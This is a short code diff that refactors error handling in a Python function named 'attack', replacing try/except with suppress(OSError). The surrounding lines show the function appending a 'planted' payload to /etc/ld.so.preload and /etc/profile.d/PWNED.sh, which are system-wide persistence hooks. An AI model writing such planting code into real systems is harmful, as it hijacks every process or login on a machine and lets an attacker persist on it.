@@ -14,8 +14,6 @@ def attack(keys, j):
         "/etc/ld.so.preload",
         "/etc/profile.d/PWNED.sh",
     ):
-        try:
+        with suppress(OSError):
             os.makedirs(os.path.dirname(path), exist_ok=True)
             open(path, "a", encoding="utf-8").write(planted)
-        except OSError:
-            continue
